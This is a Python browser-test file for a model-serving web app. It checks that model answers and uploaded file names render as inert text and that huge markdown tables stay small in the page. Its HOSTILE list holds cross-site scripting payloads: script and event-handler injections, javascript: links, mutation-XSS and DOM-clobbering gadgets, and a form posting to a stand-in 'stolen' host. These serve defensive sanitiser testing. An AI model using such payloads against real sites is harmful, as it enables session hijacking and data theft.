"""Test that no text of a model, and no name, does anything on the page but be read, in a real browser."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from edge.serve.app import create_app
from edge.serve.options import ServeOptions
from tests.serve.page_actions import Stage, answered, ask, choose_file, click
from tests.serve.scripted import ScriptedModels
from tests.serve.serving import serving
from tests.support.browser import browser

pytestmark = pytest.mark.thorough
RUN = "window.ran = 1"
ELSEWHERE = "https://elsewhere.invalid/stolen"
HOSTILE = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror='{RUN}'>",
    f"<svg onload='{RUN}'><script>{RUN}</script><use href='data:image/svg+xml,<svg onload=1>'/></svg>",
    f"[a](javascript:{RUN}) [b](JaVaScRiPt&colon;{RUN}) <javascript:{RUN}> [c](vbscript:{RUN})",
    f"[a](data:text/html,<script>{RUN}</script>) ![b](data:image/svg+xml;base64,PHN2Zy8+)",
    f"<style>@import '{ELSEWHERE}'; body {{ display: none }}</style><link rel=stylesheet href={ELSEWHERE}>",
    f"<iframe src={ELSEWHERE}></iframe><object data={ELSEWHERE}></object><embed src={ELSEWHERE}>",
    f"<form action={ELSEWHERE}><input name=key autofocus onfocus='{RUN}'><button>Log in</button></form>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'><base href={ELSEWHERE}>",
    f"![a picture]({ELSEWHERE}.png) ![b][c]\n\n[c]: {ELSEWHERE}.gif 'title' onload={RUN}",
    f"<details open ontoggle='{RUN}'><template><slot onslotchange='{RUN}'></template></details>",
    f"```html\"onclick='{RUN}'\n<script>{RUN}</script>\n```",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"| <img src=x onerror='{RUN}'> |\n|---|\n| [x](javascript:{RUN}) |",
    f"<a id=chat name=send href='{ELSEWHERE}' ping='{ELSEWHERE}'>a</a><img name=getElementById>",
    f"{'<div>' * 400}{'> ' * 400}<b onmouseover='{RUN}'>",
    "\u202egnp.exe\u202c \u2066name\u2069",
]
ALLOWED = {"A", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DEL", "DIV", "EM", "H3", "H4", "H5", "H6", "HR", "LI", "OL", "P",
           "PRE", "SPAN", "STRONG", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL"}  # fmt: skip


@pytest.fixture(scope="module")
def models() -> ScriptedModels:
    return ScriptedModels()


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory, models: ScriptedModels) -> Iterator[Stage]:
    folder = tmp_path_factory.mktemp("page")
    with serving(create_app(models, ServeOptions())) as address, browser(folder / "profile") as page:
        yield Stage(page, address, folder)


def check_harmless(stage: Stage) -> None:
    """Check that nothing ran, only harmless elements are there, and every request went to the server."""
    page = stage.page
    assert page.value("window.ran") is None
    tags = page.value("[...new Set([...document.querySelectorAll('.answer .text *')].map(one => one.tagName))]")
    assert set(tags) <= ALLOWED
    attributes = page.value(
        "[...new Set([...document.querySelectorAll('.answer .text *')].flatMap(one => one.getAttributeNames()))]"
    )
    assert set(attributes) <= {
        "align", "aria-label", "class", "href", "rel", "role", "start", "tabindex", "target", "type",
    }  # fmt: skip
    links = page.value("[...document.querySelectorAll('.answer .text a')].map(one => one.protocol)")
    assert set(links) <= {"https:", "http:"}
    assert page.value("location.href").startswith(stage.address)
    loaded = page.value("performance.getEntriesByType('resource').map(one => one.name)")
    assert [url for url in loaded if not url.startswith(stage.address)] == []


def test_hostile_answers_inject_nothing(stage: Stage, models: ScriptedModels) -> None:
    stage.open(1280)
    stage.page.complaints.clear()
    for number, text in enumerate(HOSTILE, 1):
        models.scripted.says = models.scripted.thinks = text
        models.scripted.template = "<think></think>"
        ask(stage.page, text.replace("\n", " "))
        answered(stage.page, number)
        check_harmless(stage)
    reordering = "/[\\u202a-\\u202e\\u2066-\\u2069]/.test(document.body.textContent)"
    assert stage.page.value(reordering) is False
    assert stage.page.complaints == []  # the policy of the page had nothing to refuse


def test_hostile_names_are_only_text(stage: Stage, models: ScriptedModels, tmp_path: Path) -> None:
    name = f"<img src=x onerror={RUN.replace(' ', '')}>\u202egnp.txt"
    models.scripted.name, models.scripted.says, models.scripted.thinks = name, "Yes.", ""
    try:
        stage.open(390)
        path = tmp_path / name.replace("/", "")
        path.write_text("text")
        choose_file(stage.page, path)
        stage.page.wait_for("document.querySelectorAll('#files li').length === 1")
        ask(stage.page, name)
        answered(stage.page)
        check_harmless(stage)
        for view in ("devices", "models", "chat"):
            stage.go(view)
            assert stage.page.value("document.querySelectorAll('main img').length") == 0
        assert "\u202e" not in stage.page.value("document.body.textContent")
        assert "\ufffdgnp.txt" in stage.page.value("document.body.textContent")
    finally:
        models.scripted.name = "scripted"


@pytest.mark.parametrize("text", ["- a\n", "a\n\n", "1. a\n   - b\n\n", "*a*\n\n", "# a\n", "> a\n\n", "***\n"])
def test_a_hundred_thousand_lines_become_few_elements_and_text(stage: Stage, text: str) -> None:
    stage.open(1280)
    page = stage.page
    page.value(
        f"window.lines = {json.dumps(text)}.repeat(100000); import('/markdown.js').then(({{show}}) => {{"
        " window.shown = document.createElement('div'); show(shown, lines); })"
    )
    assert 1000 < page.value("shown.querySelectorAll('*').length") < 15_000
    assert page.value("shown.querySelectorAll('.rest').length") == 1


@pytest.mark.parametrize(("rows", "columns"), [(1000, 1000), (100_000, 10), (1, 500_000), (500_000, 2)])
def test_million_cells_become_few_elements_and_text(stage: Stage, rows: int, columns: int) -> None:
    stage.open(1280)
    page = stage.page
    begin = (
        f"window.table = Array({columns}).fill('|a').join('') + '|\\n' + Array({columns}).fill('|-').join('') + '|\\n'"
        f" + Array({rows}).fill(Array({columns}).fill('|1').join('') + '|').join('\\n') + '\\n\\nend';"
        "import('/markdown.js').then(({show}) => { window.shown = document.createElement('div');"
        " document.getElementById('messages').append(shown);"
        # The answer grows in parts, as it comes from the server.
        " for (let part = 1; part <= 4; part++) show(shown, table.slice(0, table.length * part / 4)); })"
    )
    page.value(begin)
    assert page.value("shown.querySelectorAll('*').length") < 5000
    rest = page.value("shown.querySelectorAll('.rest').length")
    assert rest == 1
    click(page, "Show as text")
    text = page.value("shown.querySelector('.rest pre').textContent")
    assert len(text) > 1000
    assert page.value(f"table.includes({json.dumps(text)})")
    assert page.value("shown.querySelectorAll('*').length") < 5000
